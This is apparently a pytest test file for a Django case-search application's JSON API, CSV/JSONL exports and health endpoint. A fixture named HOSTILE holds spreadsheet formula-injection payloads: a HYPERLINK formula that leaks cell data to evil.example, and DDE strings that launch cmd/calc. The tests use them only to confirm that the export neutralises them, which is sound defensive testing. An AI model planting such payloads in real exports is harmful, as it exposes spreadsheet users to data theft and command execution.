"""The JSON API, the exports and /health/: shapes, parameters, bad input."""

import csv
import io
import json
import socket
from unittest import mock

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from django.contrib.auth import get_user_model
from django.db.utils import OperationalError

from cases.interchange.schema import validator
from tests.search.conftest import case

pytestmark = pytest.mark.usefixtures("corpus")


def get_json(client, url, params=None, status=200):
    response = client.get(url, params or {})
    assert response.status_code == status, response.content[:300]
    return response.json()


def test_search_answers_the_documented_shape(client):
    body = get_json(client, "/api/search/", {"q": "twitter", "theme": "engagement-and-content"})
    assert set(body) == {
        "count",
        "count_all_words",
        "page",
        "pages",
        "results",
        "facets",
        "engine",
        "degraded",
        "suggestion",
    }
    assert (body["count"], body["page"], body["pages"]) == (2, 1, 1)
    assert body["engine"] == "database" and body["degraded"] is False
    hit = body["results"][0]
    assert set(hit) >= {
        "title", "url", "summary", "highlights", "themes", "country", "organisation",
        "published", "external_id", "score",
    }  # fmt: skip
    assert hit["url"].startswith("/cases/")
    assert set(body["facets"]) == {
        "theme", "country", "organisation", "platform", "year", "language", "result", "evidence",
        "tried",
    }  # fmt: skip
    theme = {v["value"]: v for v in body["facets"]["theme"]}
    assert theme["engagement-and-content"]["selected"] is True
    assert set(theme["engagement-and-content"]) == {"value", "label", "count", "selected"}


def test_filters_repeat_and_combine(client):
    body = get_json(client, "/api/search/", {"country": ["AU", "NZ"], "platform": "facebook"})
    assert sorted(r["external_id"] for r in body["results"]) == [
        "flood-myths",
        "recruitment-video",
    ]


def test_page_size_is_clamped_to_50(client):
    body = get_json(client, "/api/search/", {"page_size": "500"})
    assert body["count"] == 6 and len(body["results"]) == 6


@pytest.mark.parametrize(
    ("params", "message"),
    [
        ({"page": "abc"}, "page must be a whole number"),
        ({"page": "0"}, "page must be a whole number"),
        ({"page_size": "-3"}, "page_size must be a whole number"),
        ({"sort": "popular"}, "sort must be one of relevance, newest, oldest, added"),
        ({"theme": "not-a-theme"}, "unknown filter value(s): theme “not-a-theme”"),
        ({"country": "ZZ"}, "country “ZZ”"),
        ({"year": "20x4"}, "year “20x4”"),
        ({"retrieval": "vibes"}, "retrieval must be one of hybrid, words, meaning"),
    ],
)
def test_bad_parameters_get_a_400_with_a_message(client, params, message):
    assert message in get_json(client, "/api/search/", params, status=400)["error"]


def test_suggest_returns_at_most_eight(client):
    body = get_json(client, "/api/search/suggest/", {"q": "re"})
    assert len(body["suggestions"]) <= 8
    assert {"text", "kind", "url"} == set(body["suggestions"][0])
    assert get_json(client, "/api/search/suggest/", {"q": ""})["suggestions"] == []


def test_csv_export_holds_exactly_the_filtered_results(client):
    response = client.get("/api/search/export.csv", {"q": "twitter", "country": "GB"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [r["external_id"] for r in rows] == ["tweetathon"]
    assert rows[0]["url"] == "http://testserver/cases/tweetathon/"


HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open the full report")',
    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
    "summary": "+cmd|' /C notepad'!A0 and the rest of the summary",
    "platforms": ["-2+3+cmd|' /C calc'!A0", "X"],
}


def test_csv_export_cells_never_start_a_formula(client, add_cases):
    """A cell starting with = + - @ (or tab, CR) gets a leading quote and keeps the rest."""
    add_cases(case("formula-case", country="FI", **HOSTILE))
    response = client.get("/api/search/export.csv", {"country": "FI"})
    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["organisation"] == "'" + HOSTILE["organisation"]
    assert row["summary"] == "'" + HOSTILE["summary"]
    assert row["platforms"] == "'" + "; ".join(HOSTILE["platforms"])
    assert (row["external_id"], row["country"], row["published"]) == (
        "formula-case",
        "FI",
        "2015-06-01",
    )


def test_csv_export_cells_never_start_a_formula_when_split_on_semicolons(client, add_cases):
    """Excel in French, German, Dutch or Spanish splits a CSV on ";": "Flood appeal;=cmd|..."
    would start a new cell with the formula there."""
    title = "Flood appeal;=cmd|' /C calc'!A0"
    add_cases(case("semicolon-case", country="FI", title=title, summary="Costs; -20 %"))
    content = b"".join(client.get("/api/search/export.csv", {"country": "FI"}).streaming_content)
    header, line = content.decode().splitlines()
    assert line.startswith('"semicolon-case",')  # every cell quoted
    cells = next(csv.reader([line], delimiter=";"))
    assert not [c for c in cells if c.lstrip(' "').startswith(("=", "+", "-", "@"))], cells
    (row,) = csv.DictReader(io.StringIO(content.decode()))
    assert (row["title"], row["summary"]) == ("Flood appeal;'=cmd|' /C calc'!A0", "Costs;' -20 %")


def test_jsonl_export_is_valid_interchange_in_search_order(client):
    response = client.get(
        "/api/search/export.jsonl", {"theme": "crisis-communication", "sort": "oldest"}
    )
    records = [json.loads(line) for line in b"".join(response.streaming_content).splitlines()]
    assert [r["external_id"] for r in records] == ["flood-myths", "moncton-manhunt"]
    for record in records:
        assert list(validator().iter_errors(record)) == []


def test_exports_refuse_bad_parameters(client):
    assert client.get("/api/search/export.csv", {"country": "ZZ"}).status_code == 400


def user(is_staff: bool):
    return get_user_model().objects.create_user(
        username=f"user-{is_staff}", email=f"{is_staff}@example.org", is_staff=is_staff
    )


def test_health_reports_database_and_search(client):
    assert get_json(client, "/health/") == {"status": "ok", "database": "ok", "search": "ok"}

    client.force_login(user(is_staff=True))
    details = get_json(client, "/health/")["details"]["search"]
    assert (details["status"], details["engine"], details["documents"]) == ("ok", "database", 6)


@pytest.fixture
def unreachable_cluster(settings):
    """ELASTICSEARCH_URL on an internal address where nothing listens."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings.ELASTICSEARCH_URL = f"http://127.0.0.1:{port}"
    return port


@pytest.mark.parametrize("signed_in", [None, False], ids=["anonymous", "member"])
def test_health_tells_visitors_the_states_only(client, unreachable_cluster, signed_in):
    if signed_in is not None:
        client.force_login(user(is_staff=signed_in))
    response = client.get("/health/")

    assert response.json() == {"status": "degraded", "database": "ok", "search": "unavailable"}
    assert str(unreachable_cluster) not in response.content.decode()


def test_health_tells_staff_the_details(client, unreachable_cluster):
    client.force_login(user(is_staff=True))
    body = get_json(client, "/health/")

    assert (body["status"], body["search"]) == ("degraded", "unavailable")
    details = body["details"]["search"]
    assert (details["status"], details["engine"]) == ("unavailable", "elasticsearch")
    assert details["error"].startswith("Elasticsearch could not report its status")


def test_health_without_a_database_is_503_with_states_only(client, monkeypatch):
    """The database error names the server; and without a database nobody can be
    recognised as staff, so everyone gets the states."""
    client.force_login(user(is_staff=True))
    broken = mock.MagicMock()
    broken.cursor.side_effect = OperationalError('could not connect to server "10.0.0.5"')
    monkeypatch.setattr("search.views.connection", broken)

    response = client.get("/health/")
    assert response.status_code == 503
    assert response.json() == {"status": "error", "database": "error"}


query_values = st.one_of(
    st.text(max_size=80),
    st.sampled_from(["", "0", "-1", "abc", "50", "51", "9999999", "relevance", "GB", "²"]),
)


@settings(
    max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    params=st.dictionaries(
        st.sampled_from(
            [
                "q",
                "theme",
                "country",
                "platform",
                "year",
                "language",
                "organisation",
                "result",
                "sort",
                "page",
                "page_size",
            ]
        ),
        query_values,
        max_size=6,
    )
)
def test_any_parameters_give_200_or_400(client, params):
    response = client.get("/api/search/", params)
    assert response.status_code in (200, 400)
    assert (
        "error" in response.json() if response.status_code == 400 else "count" in response.json()
    )


def test_a_page_number_out_of_range_is_refused_with_the_range(client):
    for page in ("0", "100001", "9" * 5000):
        error = get_json(client, "/api/search/", {"page": page}, status=400)["error"]
        assert error == "page must be a whole number from 1 to 100,000"
    assert client.get("/api/search/", {"page": "100000"}).status_code == 200


@pytest.mark.parametrize("path", ["/cases/", "/search/", "/api/search/"])
@pytest.mark.parametrize("name", ["year", "year_from", "year_to", "page"])
def test_a_number_too_long_for_python_to_read_is_no_server_error(client, path, name):
    # Python refuses to read a number of 4,300 digits or more (ValueError): such a year or
    # page must be ignored or refused like any other impossible one.
    response = client.get(path, {"q": "police", name: "9" * 5000})
    assert response.status_code in (200, 302, 400)


def test_control_characters_are_refused_not_passed_to_the_database(client):
    """A NUL byte in a slug lookup is an error on PostgreSQL; it must be a 400 here."""
    assert "theme" in get_json(client, "/api/search/", {"theme": "\x00"}, status=400)["error"]
    assert get_json(client, "/api/search/suggest/", {"q": "re\x00c"})["query"] == "rec"
    page = client.get("/cases/", {"theme": "recruit\x00ment"})
    assert page.status_code == 200 and b"not recognised" in page.content
